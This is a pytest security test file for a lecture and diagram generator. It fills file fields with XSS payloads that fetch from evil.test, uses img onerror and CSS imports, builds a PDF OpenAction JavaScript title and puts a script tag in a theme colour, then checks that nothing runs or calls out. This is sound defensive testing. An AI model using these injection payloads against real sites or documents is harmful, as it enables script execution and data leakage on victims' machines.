"""Script in every field of every file that is read: none runs and none asks for anything.

A field that must not hold a text refuses it; where a text may be anything, all fields hold it at
once, everything is written that can be, and Chromium opens each of them.
"""

import json
import re
import socket
import subprocess
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from graphgen.scenes.lecture import edition
from graphgen.scenes.lecture.edition import Edition

from graphgen.commands.autoviz import main
from graphgen.course import lesson_file
from graphgen.course.registry import lesson_of, request_of, scene_names
from graphgen.draw.story_file import dumps, loads
from graphgen.lecture import cards, script
from graphgen.lecture.cards import Card, storyboard
from graphgen.lecture.decks.html import html_of
from graphgen.lecture.decks.making import deck_of_content, deck_of_script
from graphgen.lecture.decks.pptx import pptx_of
from graphgen.lecture.reading import read_lecture
from graphgen.lecture.script import Part, Script
from graphgen.lecture.scripting import script_of
from graphgen.model.errors import AutovizError, LectureError
from graphgen.model.picture import Picture
from graphgen.model.store import Store
from graphgen.model.theme import DARK, Paint, Theme
from graphgen.model.timeline import Frame
from graphgen.outputs import write
from graphgen.outputs.boards.writing import lesson_pages, write_lesson
from graphgen.outputs.cairo import bound
from graphgen.outputs.options import Options, SvgStyle
from graphgen.outputs.svg import svg, svg_pages
from graphgen.outputs.svg.document import timeline_svg
from tests.browsing import CHROMIUM, browser, until, visit
from tests.graphs import two_paths
from tests.pictures import data_and_cut, matrices, picture

__all__ = ["browser"]

pytestmark = [
    pytest.mark.dot,
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium isn't installed"),
]

SCRIPT = (
    "\"'/></text></desc></title></style></script></svg><script>pwned=1;"
    'fetch("https://evil.test/a")</script><img src=https://evil.test/b onerror=pwned=1>'
    "<style>@import url(https://evil.test/c);*{background:url(https://evil.test/d)}</style>"
)
SVG = "{http://www.w3.org/2000/svg}"
SHORT = "<img src=//evil.test onerror=pwned=1>"

_FILES_INSIDE = ("content", "script")
"""Fields that are files themselves."""

Way = tuple[str | int, ...]
Reader = Callable[[str], object]


@cache
def _script() -> Script:
    """A lecture of a story and a scene, both full of script."""
    contents = (filled("story")[0], filled("scene chain-rule")[0])
    parts = (
        Part(1, "One", "one", contents[0], "Said.", "Noted."),
        Part(2, "Two", "two", contents[1]),
    )
    return Script("A lecture", "dark", "16:9", 2, parts)


@cache
def _text(name: str) -> tuple[str, Reader]:
    make, read = FILES[name]
    return make(), read


FILES: dict[str, tuple[Callable[[], str], Reader]] = {
    "story": (lambda: dumps(picture(two_paths())), loads),
    "story of matrices": (lambda: dumps(picture(matrices())), loads),
    "story with a cut": (lambda: dumps(picture(data_and_cut())), loads),
    "card": (lambda: cards.dumps(Card(1, 2, "One", "A lecture", "dark")), cards.loads),
    "script": (lambda: script.dumps(_script()), script.loads),
    "edition": (lambda: edition.dumps(Edition(_script(), "l", "draft")), edition.loads),
    **{
        f"scene {name}": (
            lambda name=name: lesson_file.dumps(lesson_of(name, request_of(name))),  # type: ignore[misc]
            lesson_file.loads,
        )
        for name in scene_names()
    },
}


def _ways(body: Any, way: Way = ()) -> Iterator[tuple[Way, Any]]:
    """Every value that is no list and no object, and the way to it."""
    items = body.items() if isinstance(body, dict) else enumerate(body)
    for key, value in items:
        if isinstance(value, dict | list):
            yield from _ways(value, (*way, key))
        else:
            yield (*way, key), value


def _fields(body: Any) -> dict[Way, list[tuple[Way, Any]]]:
    """The same, those together that are the same field of several things."""
    fields: dict[Way, list[tuple[Way, Any]]] = {}
    for way, value in _ways(body):
        fields.setdefault(tuple(p for p in way if isinstance(p, str)), []).append((way, value))
    return fields


def _put(body: Any, way: Way, value: Any) -> None:
    for part in way[:-1]:
        body = body[part]
    body[way[-1]] = value


def _accepts(read: Reader, body: Any) -> bool:
    try:
        read(json.dumps(body))
    except AutovizError as error:
        refusal = error
    else:
        return True
    assert (refusal.exit_status, len(str(refusal)) <= 500) == (2, True)
    return False


@cache
def filled(name: str) -> tuple[str, frozenset[str]]:
    """A file with script in every field that may hold it, and the names of these fields."""
    text, read = _text(name)
    body = json.loads(text)
    names: set[str] = set()
    for field, places in _fields(body).items():
        for payload in (SCRIPT, SHORT) if field[-1] not in _FILES_INSIDE else ():
            for way, _ in places:
                _put(body, way, payload)
            if _accepts(read, body):
                names.add(".".join(map(str, field)))
                break
            for way, value in places:
                _put(body, way, value)
    return json.dumps(body), frozenset(names)


@pytest.mark.parametrize("name", FILES)
def test_no_number_color_family_or_slug_may_be_script(name: str) -> None:
    """Only sentences, names and programs may be any text; and a key that isn't known is nothing."""
    text, read = _text(name)
    free = {field.rpartition(".")[2] for field in filled(name)[1]}
    assert free <= {
        "title", "notes", "op", "name", "label", "scope", "source", "dtype", "caption", "text",
        "value", "gradient", "made_of", "parts", "names", "heading", "lecture", "narration",
        "program", "result", "formula", "other", "losses", "loss", "leaves", "told", "path", "kind",
        "detail", "prediction", "target", "input",
    }, free  # fmt: skip
    body = json.loads(text)
    for field, places in _fields(body).items():
        way, value = places[0]
        if isinstance(value, int | float) and not isinstance(value, bool):
            _put(body, way, SCRIPT)
            assert not _accepts(read, body), field
            _put(body, way, value)
    body[SCRIPT] = SCRIPT
    assert _accepts(read, body)


def _written(name: str, folder: Path) -> Iterator[Path]:
    """Everything that is written of a file whose texts are script."""
    text, names = filled(name)
    read = FILES[name][1]
    assert names or name == "edition"
    content = read(text)
    documents = _documents(content)
    for at, (suffix, document) in enumerate(documents):
        path = folder / f"{at}{suffix}"
        path.write_bytes(document.encode() if isinstance(document, str) else document)
        if suffix == ".dot":
            path = path.with_suffix(".dot.svg")
            subprocess.run(["dot", "-Tsvg", path.with_suffix(""), "-o", path], check=True)
        yield path
        if suffix == ".svg":
            inside = folder / f"{at}-inside.html"
            inside.write_text(f"<!doctype html><meta charset=utf-8><p>{document}</p>")
            yield inside


def _documents(content: Any) -> Iterator[tuple[str, str | bytes]]:
    styles: tuple[SvgStyle, ...] = ("still", "animated", "steps")
    if isinstance(content, Picture):
        for style in styles:
            yield ".svg", write(content, None, "svg", style)
        yield from ((".svg", page) for page in list(svg_pages(content))[-2:])
        for suffix in (".html", ".txt", ".dot", ".json"):
            yield suffix, write(content, None, suffix)
    elif isinstance(content, Card):
        yield from (
            (".svg", timeline_svg(storyboard(content, Frame.of("16:9")), s)) for s in styles
        )
        return
    elif isinstance(content, Edition):
        content = content.script
    if isinstance(content, Script):
        yield ".html", html_of(deck_of_script(content), {})
    else:
        deck = deck_of_content(content)
        yield ".html", html_of(deck, {})
        if not isinstance(content, Picture):
            yield ".svg", deck.chapters[0].steps
            yield ".svg", deck.chapters[0].pages[-1].svg


@pytest.mark.parametrize("name", FILES)
def test_no_script_of_a_file_runs_and_nothing_is_asked_for(
    name: str, browser: Any, tmp_path: Path
) -> None:
    for path in _written(name, tmp_path):
        with visit(browser, path.as_uri()) as seen:
            if "Reveal" in path.read_text(errors="replace"):
                until(seen.page, "Reveal.isReady()")
                seen.page.keyboard.press("ArrowRight")
            seen.page.wait_for_timeout(50)
            _check(seen.page, seen.requests, path)


def _check(page: Any, requests: list[str], path: Path) -> None:
    assert page.evaluate("typeof pwned") == "undefined", path
    asked = [address for address in requests if not address.startswith(("data:", "blob:"))]
    assert asked[1:] == [], path
    foreign = "[...document.querySelectorAll('img, [onerror], [onload]')].length"
    assert page.evaluate(foreign) == 0, path


SEVERAL = ("story with a cut", "scene chain-rule", "scene zero-grad")
"""Enough for what is made of the drawings that the tests above open: a picture, a scene with texts
of its own and one of arrays. Every element of a page, a PDF and a deck is written by one function
of outputs/elements.py or outputs/boards/marks.py, so that another scene brings no other way in."""


@pytest.mark.parametrize("name", [name for name in SEVERAL if name.startswith("scene")])
def test_no_script_runs_in_the_page_of_a_scene_nor_in_its_pages(
    name: str, browser: Any, tmp_path: Path
) -> None:
    """Its own script steps, and puts captions and narrations where they are read."""
    lesson = lesson_file.loads(filled(name)[0])
    page = tmp_path / "scene.html"
    write_lesson(lesson, page, ".html", Options())
    with visit(browser, page.as_uri()) as seen:
        for _ in range(3):
            seen.page.keyboard.press("ArrowRight")
        assert "evil.test" in seen.page.text_content("body")
        _check(seen.page, seen.requests, page)
    assert seen.complaints == []
    for at, document in enumerate(lesson_pages(lesson, False)):
        path = tmp_path / f"{at}.svg"
        path.write_text(document)
        _is_plain(document)
    with visit(browser, path.as_uri()) as seen:
        _check(seen.page, seen.requests, path)


_ACTIVE = re.compile(
    rb"/(?:JS|JavaScript|URI|Launch|OpenAction|AA|GoToR|SubmitForm|EmbeddedFile)\b"
)
_PDF_TITLE = "a) /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /URI (//evil.test) ("


def _outside_of_texts(content: bytes) -> bytes:
    """The objects of a PDF, those in compressed streams too, without what is a text in them."""
    streams = re.findall(rb"stream\r?\n(.*?)\r?\nendstream", content, re.DOTALL)
    objects = re.sub(rb"stream\r?\n.*?\r?\nendstream", b"", content, flags=re.DOTALL)
    for stream in streams:
        unpacker = zlib.decompressobj()
        try:
            objects += unpacker.decompress(stream)
        except zlib.error:
            continue
    return re.sub(rb"\((?:\\.|[^()\\])*\)", b"()", objects, flags=re.DOTALL)


def test_what_looks_for_actions_in_a_pdf_sees_one() -> None:
    packed = zlib.compress(b"<< /S /URI /URI (http://evil.test) >>")
    assert _ACTIVE.search(_outside_of_texts(b"stream\n" + packed + b"\nendstream"))
    assert _ACTIVE.search(_outside_of_texts(b"<< /OpenAction 3 0 R >>"))
    assert not _ACTIVE.search(_outside_of_texts(rb"<< /Title (a \) /OpenAction \() >>"))


@pytest.mark.parametrize("name", SEVERAL)
def test_a_pdf_holds_no_action_and_asks_for_nothing(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """All its pages, with what is script in SVG, HTML and PDF; nothing is asked for to write it."""
    addresses = _asked_for(monkeypatch)
    content: Any = FILES[name][1](filled(name)[0])
    if isinstance(content, Picture):
        documents = list(svg_pages(content))
        books = [write(content, None, "pdf", "pages"), bound(documents, _PDF_TITLE)]
    else:
        documents = lesson_pages(content, False)
        books = [write_lesson(content, None, ".pdf", Options(svg_style="pages"))]
    for book in books:
        assert book.startswith(b"%PDF")
        assert _ACTIVE.findall(_outside_of_texts(book)) == []
    path = tmp_path / "x.pdf"
    path.write_bytes(books[0])
    text = subprocess.run(["pdftotext", path, "-"], check=True, capture_output=True, text=True)
    assert text.stdout.count("\f") == len(documents)
    assert addresses == []


_PRINTER = "ppt/printerSettings/printerSettings1.bin"
"""Which python-pptx's template brings."""


def test_a_pptx_has_nothing_outside_of_itself_and_nothing_that_runs(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """No relationship leads out of it, no part is a program, and its drawings hold no script."""
    addresses = _asked_for(monkeypatch)
    with zipfile.ZipFile(BytesIO(pptx_of(deck_of_script(_script()), "section"))) as file:
        parts = {name: file.read(name) for name in file.namelist()}
    suffixes = {name.rpartition(".")[2] for name in parts.keys() - {_PRINTER}}
    assert suffixes <= {"xml", "rels", "png", "jpeg", "svg"}
    assert not [name for name in parts if re.search("vba|macro|activeX|embeddings", name, re.I)]
    texts = ""
    for name, part in parts.items():
        if name.endswith((".xml", ".rels")):
            root = ElementTree.fromstring(part)
            texts += "".join(root.itertext())
            assert [e.attrib for e in root.iter() if "TargetMode" in e.attrib] == [], name
            tags = {e.tag.rpartition("}")[2] for e in root.iter()}
            assert [tag for tag in tags if re.match("hlink(Click|Hover|MouseOver)", tag)] == [], (
                name
            )
        elif name.endswith(".svg"):
            _is_plain(part.decode())
    assert "evil.test" in texts
    assert addresses == []


@pytest.mark.parametrize("name", SEVERAL)
def test_a_drawing_that_is_an_image_asks_for_nothing(
    name: str, browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Keyframe, animated, in steps, and as PNG, each the source of an <img>; each is drawn."""
    addresses = _asked_for(monkeypatch)
    content: Any = FILES[name][1](filled(name)[0])
    styles: tuple[SvgStyle, ...] = ("still", "animated", "steps")
    for suffix, style in [*((".svg", style) for style in styles), (".png", "still")]:
        path = tmp_path / f"{style}{suffix}"
        if isinstance(content, Picture):
            write(content, path, suffix, style)
        else:
            write_lesson(content, path, suffix, Options(svg_style=style))
    images = sorted(path.name for path in tmp_path.iterdir())
    page = tmp_path / "page.html"
    page.write_text("<!doctype html>" + "".join(f'<img src="{name}">' for name in images))
    with visit(browser, page.as_uri()) as seen:
        drawn = "[...document.images].map(i => i.complete && i.naturalWidth > 0)"
        assert seen.page.evaluate(drawn) == [True] * 4
        assert seen.page.evaluate("typeof pwned") == "undefined"
        wanted = [page.as_uri(), *((tmp_path / name).as_uri() for name in images)]
        assert sorted(seen.requests) == sorted(wanted)
    assert addresses == []


def _asked_for(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """The addresses that this process will have connected to."""
    addresses: list[object] = []

    def connect(self: socket.socket, address: object) -> None:
        addresses.append(address)
        raise OSError("no network here")

    monkeypatch.setattr(socket.socket, "connect", connect)
    return addresses


def _is_plain(document: str) -> None:
    """Nothing of a drawing runs, and nothing of it leads anywhere."""
    for element in ElementTree.fromstring(document).iter():
        tag = element.tag.removeprefix(SVG)
        assert tag not in {"script", "foreignObject", "image", "a", "use", "iframe", "img"}
        names = [name.rpartition("}")[2] for name in element.attrib]
        assert [name for name in names if name.startswith("on") or name == "href"] == []


LECTURE = """
title = {text}
[[sections]]
heading = {text}
expr = "c = (a + b) * b"
values = {{ a = 2, b = 3 }}
title = {text}
narration = {long}
notes = {long}
captions = {{ 1 = {text}, 2 = {text} }}
[[sections]]
heading = {text}
scene = "chain-rule"
title = {text}
"""


def test_no_script_of_a_lecture_file_runs(browser: Any, tmp_path: Path) -> None:
    """In the slides, in the speaker's window, and on paper."""
    text = LECTURE.format(text=json.dumps(SCRIPT[:190]), long=json.dumps(SCRIPT))
    lecture = read_lecture(text)
    path = tmp_path / "deck.html"
    path.write_text(html_of(deck_of_script(script_of(lecture, Store(None))), {}))
    with visit(browser, path.as_uri()) as seen:
        until(seen.page, "Reveal.isReady()")
        for _ in range(3):
            seen.page.keyboard.press("ArrowRight")
        with seen.page.expect_popup() as opened:
            seen.page.keyboard.press("s")
        speaker = opened.value
        until(speaker, "document.querySelector('.speaker-controls-notes .value').innerText")
        assert "evil.test" in speaker.inner_text(".speaker-controls-notes .value")
        assert speaker.evaluate("typeof pwned") == "undefined"
        assert speaker.evaluate("document.querySelectorAll('img').length") == 0
        _check(seen.page, seen.requests, path)
    with visit(browser, f"{path.as_uri()}?print-pdf") as seen:
        seen.page.wait_for_selector(".pdf-page")
        _check(seen.page, seen.requests, path)
    assert seen.complaints == []


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("theme", SCRIPT),
        ("quality", SCRIPT),
        ("aspect", SCRIPT),
        ("title", "a\nb"),
        (SCRIPT, "x"),
    ],
)
def test_no_other_key_of_a_lecture_file_holds_script(key: str, value: str) -> None:
    line = f"{json.dumps(key)} = {json.dumps(value)}"
    heading = "" if key == "title" else 'title = "x"\n'
    with pytest.raises(LectureError):
        read_lecture(f'{heading}{line}\n[[sections]]\nheading = "h"\nscene = "tangent"\n')


def test_a_deck_is_shown_inside_of_a_page_of_ones_own(browser: Any, tmp_path: Path) -> None:
    """The deck steps in a frame of another page, and its policy is kept there."""
    deck = tmp_path / "deck.html"
    deck.write_text(html_of(deck_of_script(_script()), {}))
    page = tmp_path / "page.html"
    page.write_text('<!doctype html><iframe src="deck.html" width="960" height="600"></iframe>')
    with visit(browser, page.as_uri()) as seen:
        frame = seen.page.frames[1]
        until(frame, "Reveal.isReady()")
        frame.locator("h1").click()
        seen.page.keyboard.press("ArrowRight")
        until(frame, "Reveal.getIndices().h === 1")
    assert seen.complaints == []


def test_a_decks_policy_allows_nothing_inline_but_by_hash() -> None:
    document = html_of(deck_of_script(_script()), {})
    policy = document.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
    assert "'unsafe-inline'" not in policy
    assert "'unsafe-eval'" not in policy
    assert policy.startswith("default-src 'none'; script-src 'sha256-")
    assert " style=" not in document.split("<body>")[1].split("<script>")[0]


def test_script_that_a_deck_did_not_bring_is_stopped_by_its_policy(
    browser: Any, tmp_path: Path
) -> None:
    """Were something ever not escaped, the policy would still hold it."""
    document = html_of(deck_of_script(_script()), {})
    path = tmp_path / "deck.html"
    whole, end, _ = document.rpartition("</body>")
    path.write_text(f"{whole}<script>pwned = 1</script>{end}</html>")
    with visit(browser, path.as_uri()) as seen:
        until(seen.page, "Reveal.isReady()")
        assert seen.page.evaluate("typeof pwned") == "undefined"
    assert any("Content Security Policy" in told for told in seen.complaints)


def _forced(theme: Theme) -> Theme:
    """A theme whose every colour and family is script, past the checks."""
    paints: dict[str, Any] = {}
    for name in Theme.__slots__:
        value = getattr(theme, name)
        if isinstance(value, Paint):
            paint = replace(value)
            for part in Paint.__slots__:
                object.__setattr__(paint, part, SCRIPT)
            paints[name] = paint
        elif isinstance(value, str) and name != "name":
            paints[name] = SCRIPT
    forced = replace(theme)
    for name, value in {**paints, "fonts": (SCRIPT,)}.items():
        object.__setattr__(forced, name, value)
    return forced


def test_colors_and_families_are_escaped_when_they_are_written(
    browser: Any, tmp_path: Path
) -> None:
    """Also in a theme that somebody has forced past its checks."""
    drawn = picture(data_and_cut())
    forced = replace(drawn, theme=_forced(DARK))
    plain = {element.tag for element in ElementTree.fromstring(svg(drawn)).iter()}
    styles: tuple[Any, ...] = ("still", "animated", "steps")
    for style in styles:
        tags = {element.tag for element in ElementTree.fromstring(svg(forced, style)).iter()}
        assert tags <= plain | {
            f"{{http://www.w3.org/2000/svg}}{tag}" for tag in ("style", "circle")
        }
    documents = [(".svg", svg(forced, style)) for style in styles]
    documents.append((".html", html_of(deck_of_content(forced), {})))
    for at, (suffix, document) in enumerate(documents):
        path = tmp_path / f"{at}{suffix}"
        path.write_text(document)
        with visit(browser, path.as_uri()) as seen:
            seen.page.wait_for_timeout(50)
            _check(seen.page, seen.requests, path)


def test_a_story_whose_color_is_script_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The file that once ran: a command says where it is wrong, and writes nothing."""
    body = json.loads(dumps(picture(two_paths())))
    body["theme"]["forward"] = '#fff"/><script>alert(1)</script><g x="'
    story, out = tmp_path / "story.json", tmp_path / "x.svg"
    story.write_text(json.dumps(body))
    assert main(["render", "story", str(story), "-o", str(out)]) == 2
    assert 'forward as "#rrggbb"' in capsys.readouterr().err
    assert main(["slides", str(story), "-o", str(tmp_path / "x.html")]) == 2
    assert sorted(path.name for path in tmp_path.iterdir()) == ["story.json"]
